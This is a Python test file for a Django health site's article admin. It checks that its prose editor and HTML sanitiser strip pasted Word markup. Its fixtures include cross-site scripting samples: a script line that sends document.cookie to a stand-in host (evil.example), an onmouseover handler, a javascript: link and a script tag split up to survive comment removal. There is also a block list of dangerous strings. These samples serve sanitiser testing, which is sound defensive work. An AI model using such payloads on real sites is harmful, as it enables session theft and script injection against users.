"""The body editor (django-prose-editor) in the article admin: limited to what the
sanitiser keeps, and what it sends still cleaned on save."""

import json
import re
from http import HTTPStatus

import pytest
from django_prose_editor.config import allowlist_from_extensions, expand_extensions

from articles.editor import EDITOR_EXTENSIONS, editor_would_lose
from articles.models import Article
from sciatica_site.sanitizer import ARTICLE_TAGS, clean_article_html
from tests.articles.test_admin import article_form

pytestmark = pytest.mark.django_db

# What Word puts on the clipboard (trimmed): conditional comments, Office XML, mso styles,
# classes and fonts; and, from a web page, a script and an event handler.
WORD_PASTE = """
<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><meta name=Generator
content="Microsoft Word 15"><!--[if gte mso 9]><xml><o:OfficeDocumentSettings>
<o:AllowPNG/></o:OfficeDocumentSettings></xml><![endif]--><style>p.MsoNormal{margin:0}</style>
</head><body lang=EN-GB style='tab-interval:36.0pt'><!--StartFragment-->
<p class=MsoNormal style='mso-margin-top-alt:auto'><b><span style='font-size:14.0pt;
font-family:"Calibri",sans-serif;mso-bidi-font-weight:normal'>Gentle start</span></b><o:p></o:p></p>
<p class=MsoListParagraphCxSpFirst style='text-indent:-18.0pt;mso-list:l0 level1 lfo1'>
<![if !supportLists]><span style='font-family:Symbol'>·<span style='font:7.0pt "Times New Roman"'>
&nbsp;&nbsp;</span></span><![endif]>Lie on your back<o:p></o:p></p>
<p><font face="Arial" color="red" onmouseover="steal()">Breathe out slowly.</font></p>
<script>document.location='https://evil.example/'+document.cookie</script>
<p><a href="javascript:alert(1)">Click</a> and <a href="https://nhs.example/sciatica"
target="_blank" style="color:red">read more</a></p>
<!--EndFragment--></body></html>
"""


LEFT_OUT = ("mso", "Mso", "style", "<span", "<font", "o:p", "<script", "cookie", "javascript:",
            "onmouseover", "[if", "xml", "<html", "<meta", "target", "Symbol")  # fmt: skip


def test_the_editor_offers_only_what_the_sanitiser_keeps():
    allowed = allowlist_from_extensions(expand_extensions(EDITOR_EXTENSIONS))
    assert set(allowed["tags"]) <= ARTICLE_TAGS
    assert {"h2", "h3", "ul", "ol", "em", "strong", "a", "blockquote", "table", "figure",
            "figcaption", "img"} <= set(allowed["tags"])  # fmt: skip
    assert "h1" not in allowed["tags"]  # the title is the page's only h1


def test_the_change_form_has_the_editor_started_by_a_static_module(client, staff, make_article):
    article = make_article(body='<h2>Start</h2><p class="note">See a doctor if…</p>')
    client.force_login(staff)
    response = client.get(f"/admin/articles/article/{article.pk}/change/")
    html = response.content.decode()
    config = re.search(r'data-django-prose-editor-configurable="([^"]*)"', html).group(1)
    extensions = json.loads(config.replace("&quot;", '"'))["extensions"]
    assert extensions["Heading"] == {"levels": [2, 3, 4]}
    assert "articles/admin/body_editor.js" in html
    assert "articles/admin/editor_base.css" in html
    # The import map is an inline script: it carries the page's CSP nonce.
    nonce = re.search(r"'nonce-([^']+)'", response["Content-Security-Policy"]).group(1)
    assert re.search(rf'<script type="importmap" nonce="{re.escape(nonce)}"', html) or re.search(
        rf'<script nonce="{re.escape(nonce)}" type="importmap"', html
    )
    assert "<script>" not in html  # no inline script without a nonce


def test_word_markup_pasted_into_the_editor_is_tidied_on_save(client, staff, author):
    client.force_login(staff)
    data = article_form(author, body=WORD_PASTE, **{"steps-TOTAL_FORMS": "0"})
    response = client.post("/admin/articles/article/add/", data)
    assert response.status_code == HTTPStatus.FOUND, response.context["errors"]
    article = Article.objects.get(slug="new-guide")
    for stored in (article.body, article.body_html):
        for bad in LEFT_OUT:
            assert bad not in stored, (bad, stored)
    assert "<b>Gentle start</b>" in article.body_html
    assert "Lie on your back" in article.body_html
    assert "<p>Breathe out slowly.</p>" in article.body_html
    assert '<a href="https://nhs.example/sciatica">read more</a>' in article.body_html
    assert "<a>Click</a>" in article.body_html


def test_an_empty_editor_is_a_clear_error(client, staff, author):
    client.force_login(staff)
    data = article_form(author, body="<p></p>", **{"steps-TOTAL_FORMS": "0"})
    response = client.post("/admin/articles/article/add/", data)
    assert response.status_code == HTTPStatus.OK
    assert "Write the article&#x27;s text." in response.content.decode()
    assert not Article.objects.exists()


def test_a_form_sent_back_shows_the_cleaned_text_not_the_paste(client, staff, author):
    client.force_login(staff)
    data = article_form(author, body=WORD_PASTE, title="", **{"steps-TOTAL_FORMS": "0"})
    response = client.post("/admin/articles/article/add/", data)
    assert response.status_code == HTTPStatus.OK
    body = response.context["adminform"].form.cleaned_data["body"]
    assert "mso" not in body and "<script" not in body and "Gentle start" in body


@pytest.mark.parametrize(
    ("body", "lost"),
    [
        ("<h2>Start</h2><p class=\"note\">Ask a <b>clinician</b> <i>first</i>.</p>", []),
        ('<figure><img src="/a.png" alt="A" width="4" height="3"><figcaption>A</figcaption>'
         '</figure><table><tbody><tr><td colspan="2">x</td></tr></tbody></table>', []),
        # What the editor's own "insert image" writes: kept for the next edit.
        ('<figure class="figure"><img src="/a.png" alt="A" width="4" height="3">'
         '<figcaption class="figure-caption">A mat</figcaption></figure>', []),
        ("<p>An <abbr title=\"magnetic resonance imaging\">MRI</abbr> scan</p>", ["<abbr>"]),
        ('<h2 id="why">Why</h2><dl><dt>Sciatica</dt><dd>Leg pain</dd></dl>',
         ["<dd>", "<dl>", "<dt>", 'id="…" on <h2>']),
    ],
)  # fmt: skip
def test_what_the_editor_could_not_keep_is_found(body, lost):
    assert editor_would_lose(body) == lost


def test_a_body_the_editor_would_change_is_edited_as_html(client, staff, make_article):
    article = make_article(body='<p>An <abbr title="magnetic resonance imaging">MRI</abbr>.</p>')
    client.force_login(staff)
    html = client.get(f"/admin/articles/article/{article.pk}/change/").content.decode()
    assert "data-django-prose-editor-configurable" not in html
    assert "the editor cannot keep (&lt;abbr&gt;)" in html
    assert "&lt;abbr title=&quot;magnetic resonance imaging&quot;&gt;MRI" in html


def test_markup_the_sanitiser_drops_anyway_does_not_keep_the_editor_away(
    client, staff, make_article
):
    article = make_article(body='<section class="exercise"><h3>Knee hug</h3><p>Hold.</p></section>')
    client.force_login(staff)
    html = client.get(f"/admin/articles/article/{article.pk}/change/").content.decode()
    assert "data-django-prose-editor-configurable" in html


@pytest.mark.parametrize(
    ("pasted", "cleaned"),
    [
        ('<p class="MsoNormal note">Rest</p>', '<p class="note">Rest</p>'),
        (
            '<p class="MsoListParagraph"><![if !supportLists]>·&nbsp;<![endif]>Walk</p>',
            "<p>Walk</p>",
        ),
        # Dropping Word's bullets must not splice a script back together.
        ("<p><scr<![if !supportLists]>x<![endif]>ipt>alert(1)</script>Hi</p>", "<p>Hi</p>"),
    ],
)
def test_word_classes_and_bullets_go_and_nothing_is_spliced(pasted, cleaned):
    assert clean_article_html(pasted) == cleaned
